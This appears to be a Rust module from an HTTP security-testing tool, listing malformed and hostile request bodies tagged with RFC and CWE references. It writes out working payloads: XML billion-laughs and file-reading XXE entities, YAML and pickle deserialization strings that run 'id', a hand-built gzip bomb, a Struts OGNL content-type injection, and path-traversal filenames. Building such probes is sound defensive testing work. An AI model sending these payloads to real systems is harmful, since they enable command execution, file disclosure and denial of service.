//! Types and codings of a body that do not fit what it is, and bodies where none belongs.

use std::fmt::Write as _;

use crate::given::{Given, Made};
use crate::table::table;

table! { Bodies;
    "body.type-missing" [Harmless] "a document without a type", "RFC 9110 §8.3" =>
        |given| given.bodies(|it| [it.without("content-type")]);
    "body.type-of-forms" [Harmless] "a document under the types that browsers send without asking", "CWE-352" =>
        |given| types(given, &["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]);
    "body.type-twice" [Harmless] "two types", "RFC 9110 §8.3" =>
        |given| given.bodies(|it| [it.clone().and_field("content-type", "text/plain"), it.field("content-type", "application/json, text/plain")]);
    "body.type-malformed" [Harmless] "types that are none", "RFC 9110 §8.3.1" =>
        |given| types(given, &["", "/", "json", "application/", "application/json;", "application/json; charset", "application /json", "*/*", "application/json\t;;;a=b"]);
    "body.type-of-another-charset" [Harmless] "a document that says it is in another alphabet", "RFC 8259 §8.1" =>
        |given| types(given, &["application/json; charset=utf-7", "application/json; charset=ibm037", "application/json; charset=utf-32", "application/json; charset=x-unknown"]);
    "body.type-look-alike" [Harmless] "types that begin with the right one", "RFC 9110 §8.3.1" =>
        |given| types(given, &["application/jsonx", "application/json+x", "application/x-json", "application/json-seq", "text/json"]);
    "body.xml-entities" [Harmless] "XML whose entities unfold to gigabytes, or name a file", "CWE-776, CWE-611" =>
        |given| other(given, "application/xml", &xml());
    "body.yaml-tags" [Harmless] "YAML that makes objects, or unfolds to gigabytes", "CWE-502" =>
        |given| other(given, "application/yaml", &[b"!!python/object/apply:os.system ['id']".to_vec(), b"a: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: [*b,*b,*b,*b]\n".to_vec()]);
    "body.objects-of-languages" [Harmless] "objects in the forms of Java, Python and PHP", "CWE-502" =>
        |given| {
            let objects = [b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet".to_vec(), b"cos\nsystem\n(S'id'\ntR.".to_vec(), b"O:8:\"stdClass\":0:{}".to_vec()];
            other(given, "application/octet-stream", &objects)
        };
    "body.form-malformed" [Harmless] "forms that are none, and forms of thousands of fields", "CWE-770" =>
        |given| {
            let many: String = (0..20_000).map(|number| format!("{number}=1&")).collect();
            other(given, "application/x-www-form-urlencoded", &[b"%".to_vec(), b"a=%zz&&&==".to_vec(), b"a[b][c][d]=1".to_vec(), many.into_bytes()])
        };
    "body.parts-malformed" [Harmless] "parts without a boundary, and boundaries without parts", "RFC 2046 §5.1" =>
        |given| {
            given.is_plain()?;
            given.drafts(|it| ["multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=a", "multipart/mixed; boundary=\"\""].into_iter()
                .flat_map(|kind| ["--a", "--a\r\n\r\n--a--", "--a\r\ncontent-disposition: form-data; name=\"f\"; filename=\"../../x\"\r\n\r\nx\r\n--a--"]
                    .map(|body| it.clone().method("POST").field("content-type", kind).body(body)))
                .collect::<Vec<_>>())
        };
    "body.coding-unknown" [Harmless] "codings that nobody has", "RFC 9110 §8.4" =>
        |given| coded(given, &[("x-unknown", b"x"), ("identity, x", b"x"), ("", b"x"), ("gzip;q=1", b"x"), ("aes128gcm", b"x")]);
    "body.coding-broken" [Harmless] "what is not in the coding that it says it is in", "RFC 9110 §8.4.1" =>
        |given| coded(given, &[("gzip", b"not gzip"), ("deflate", b"\xff\xff"), ("br", b"\xff"), ("zstd", b"\x28\xb5\x2f\xfd\xff"), ("gzip, gzip, gzip", b"x")]);
    "body.coding-bomb" [Harmless] "a hundred kilobytes that unfold to sixteen megabytes", "CWE-409" =>
        |given| { let bomb = bomb(); coded(given, &[("gzip", &bomb), ("x-gzip", &bomb), ("gzip, gzip", &bomb)]) };
    "body.where-none-belongs" [Harmless] "a body with a method that has none", "RFC 9110 §9.3.1" =>
        |given| given.plain(|it| ["GET", "HEAD", "DELETE", "OPTIONS"].map(|method| it.clone().method(method).body("{\"a\":1}")));
    "body.large" [Harmless] "a body of four million bytes", "CWE-770" =>
        |given| given.plain(|it| [it.method("POST").body(vec![b'a'; 4_000_000])]);
    "body.large-without-credential" "a body of four million bytes without a credential", "CWE-770" =>
        |given| { given.is_plain()?; given.bares(|it| [it.method("POST").body(vec![b'a'; 4_000_000])]) };
    "body.type-hostile" [Harmless] "a look-up or a script as the type", "CVE-2017-5638" =>
        |given| given.plain(|it| ["%{(#a='multipart/form-data')}", "${7*7}", "<x>", "application/json\u{fffd}"].map(|kind| it.clone().method("POST").field("content-type", kind).body("x")));
}

fn types(given: &Given<'_>, types: &[&str]) -> Made {
    given.bodies(|it| {
        let drafts = types
            .iter()
            .map(|kind| it.clone().field("content-type", kind));
        drafts.collect::<Vec<_>>()
    })
}

/// Bodies of another type.
fn other(given: &Given<'_>, kind: &str, bodies: &[Vec<u8>]) -> Made {
    given.plain(|it| {
        let draft = it.method("POST").field("content-type", kind);
        let drafts = bodies.iter().map(|body| draft.clone().body(body.clone()));
        drafts.collect::<Vec<_>>()
    })
}

fn coded(given: &Given<'_>, bodies: &[(&str, &[u8])]) -> Made {
    given.plain(|it| {
        let draft = it.method("POST");
        let drafts = bodies
            .iter()
            .map(|(coding, body)| draft.clone().field("content-encoding", coding).body(*body));
        drafts.collect::<Vec<_>>()
    })
}

fn xml() -> [Vec<u8>; 3] {
    let mut laughs = String::from("<!DOCTYPE a [<!ENTITY a0 \"ha\">");
    for level in 1..10 {
        let before = format!("&a{};", level - 1).repeat(10);
        // Writing to a string does not fail.
        let _ = write!(laughs, "<!ENTITY a{level} \"{before}\">");
    }
    laughs.push_str("]><a>&a9;</a>");
    let file = b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>";
    let net = b"<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/x.dtd\"><a/>";
    [laughs.into_bytes(), file.to_vec(), net.to_vec()]
}

/// Gzip of sixteen million zeros, written by hand: one stored block would be as long as they are, so
/// that it is a block of fixed codes, which repeat the byte before 258 times in 13 bits.
fn bomb() -> Vec<u8> {
    let mut bits = Bits::default();
    bits.push(0b011, 3);
    // The literal 0: code 00110000, from its first bit.
    bits.push(0b0000_1100, 8);
    for _ in 0..65_000 {
        // Length 258: code 11000101; distance 1: code 00000.
        bits.push(0b1010_0011, 8);
        bits.push(0, 5);
    }
    bits.push(0, 7);
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    bytes.extend(bits.finish());
    // Checksum and length, which a reader that unfolds it all would find wrong.
    bytes.extend([0; 8]);
    bytes
}

#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    open: u32,
    count: u32,
}

impl Bits {
    /// Adds bits, the lowest first.
    fn push(&mut self, bits: u32, count: u32) {
        self.open |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes
                .push(u8::try_from(self.open & 0xff).unwrap_or_default());
            self.open >>= 8;
            self.count -= 8;
        }
    }

    fn finish(mut self) -> Vec<u8> {
        self.push(0, 8);
        self.bytes
    }
}
